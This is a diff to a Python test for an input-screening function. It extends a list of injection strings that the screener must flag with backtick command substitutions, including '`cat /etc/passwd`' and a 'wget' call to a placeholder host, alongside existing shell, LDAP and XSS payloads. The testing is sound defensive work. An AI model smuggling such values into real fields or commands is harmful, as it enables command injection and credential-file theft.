@@ -50,13 +50,14 @@ MEANT = (
     "onload=alert(1)", ";onerror=x.y(1)", '" onfocus=x', "x' onload='y", "a=b onload=fetch(1)", "*))", "x*)(cn=*)",
     "*()|&'", "a|id", "x|date", "\\\\host\\x\\shell.php", "\\\\host@8080\\dav\\x", "\\\\?\\unc\\host\\x",
     "bash -c id", "sh -c whoami", "/bin/sh -c reboot", "x)(&(a=b))", "x) (&mail=a*)", "a | tr -d b",
-    "/etc/nginx/nginx.conf",
+    "/etc/nginx/nginx.conf", "`cat /etc/passwd`", "x`ls -la`", "x `cat /etc/passwd`", "1 `wget http://a.example/x`",
+    "`ls -la`", "a`id`b",
 )  # fmt: skip
 
 
 def test_what_is_meant_for_a_machine_is_found_all_the_same() -> None:
     assert [value for value in MEANT if not screen(value, CLASSES)] == []
-    assert len(MEANT) == 41
+    assert len(MEANT) == 47
     # What is everyday in an office and looks for nothing but a machine is told at the second level.
     assert screen("\\\\host\\share\\x", CLASSES, THRESHOLDS[2])
 
